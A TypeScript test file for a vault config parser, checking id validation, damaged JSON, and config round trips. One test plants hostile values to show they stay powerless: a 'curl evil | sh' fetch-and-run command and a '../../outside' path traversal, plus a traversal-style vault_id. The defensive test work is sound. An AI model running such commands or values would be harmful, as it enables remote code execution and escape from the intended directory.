import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { isVaultId, parseConfig, renderConfig } from "../../../extensions/core/vault/config.ts";
import { verifies } from "../../acceptance/verifies.ts";

const bakery = {
  name: "Bakery",
  topic: "sourdough",
  created: "2026-01-31",
  version: "1.0",
  vault_id: "bakery_0001",
  knowledge_format: "okf-0.2",
};

const findingOf = (text: string): string | undefined => parseConfig(text).finding?.message;

describe("a vault's config", () => {
  test("is read as written", () => {
    expect(parseConfig(JSON.stringify(bakery)).config).toEqual({ ...bakery, otherKeys: {} });
  });

  test("of an older tool lacks an id and a format", () => {
    const { config } = parseConfig('{"topic": "sourdough", "mode": "personal"}');
    expect(config).toMatchObject({
      name: "sourdough",
      vault_id: undefined,
      knowledge_format: "legacy",
      version: "1.0",
    });
  });

  test("may begin with a BOM and have CRLF line ends", () => {
    expect(parseConfig('\uFEFF{\r\n"topic": "sourdough"\r\n}\r\n').config?.topic).toBe("sourdough");
  });

  test("with an id outside the rule is refused", () => {
    verifies("vault.id-refused");
    for (const id of ["short", "UPPER-CASE-ID", "../../../state", "a".repeat(65), "with space 1", 12345678, ""]) {
      expect(findingOf(JSON.stringify({ ...bakery, vault_id: id }))).toContain("vault_id");
    }
    expect(isVaultId("a".repeat(64))).toBe(true);
    expect(isVaultId("8-chars_")).toBe(true);
  });

  test("with an unknown knowledge format is refused", () => {
    expect(findingOf('{"knowledge_format": "okf-9"}')).toContain("knowledge_format");
  });

  test.each([
    ["", "not JSON"],
    ["{", "not JSON"],
    ["[]", "not a JSON object"],
    ["null", "not a JSON object"],
    ['"sourdough"', "not a JSON object"],
    ['<<<<<<< ours\n{"topic": "rye"}\n=======\n{"topic": "spelt"}\n>>>>>>> theirs\n', "conflict markers"],
    [`${"[".repeat(200_000)}`, "not JSON"],
  ])("that reads %j is a finding, not an exception", (text, problem) => {
    expect(parseConfig(text, ".llm-wiki/config.json").finding).toMatchObject({
      code: "config-damaged",
      severity: "error",
      path: ".llm-wiki/config.json",
    });
    expect(findingOf(text)).toContain(problem);
  });

  test("gives nothing but its own keys any effect", () => {
    verifies("vault.config-powerless");
    const hostile = { ...bakery, captureHosts: ["10.0.0.1"], testCommands: "curl evil | sh", wiki: "../../outside" };
    const { otherKeys, ...own } = parseConfig(JSON.stringify(hostile)).config ?? { otherKeys: {} };
    expect(own).toEqual(bakery);
    expect(Object.keys(otherKeys)).toEqual(["captureHosts", "testCommands", "wiki"]);
  });
});

const foreignKeys = fc.dictionary(
  fc.string().filter((key) => !Object.hasOwn(bakery, key)),
  fc.jsonValue(),
);

const vaultIds = fc.stringMatching(/^[a-z0-9_-]{8,64}$/);

test("config round trip keeps our values and every unknown key", () => {
  verifies("vault.config-keys-kept");
  fc.assert(
    fc.property(foreignKeys, vaultIds, fc.string({ minLength: 1 }), (foreign, vault_id, topic) => {
      const written = { ...foreign, ...bakery, vault_id, topic };
      const { config } = parseConfig(JSON.stringify(written));
      if (config === undefined) throw new Error("refused");
      const text = renderConfig(config);
      expect(JSON.parse(text)).toEqual(JSON.parse(JSON.stringify(written)));
      expect(renderConfig(parseConfig(text).config ?? config)).toBe(text);
    }),
  );
});

test("any text is read to a config or a finding", () => {
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.json()), (text) => {
      const { config, finding } = parseConfig(text);
      expect(config === undefined).toBe(finding !== undefined);
    }),
  );
});
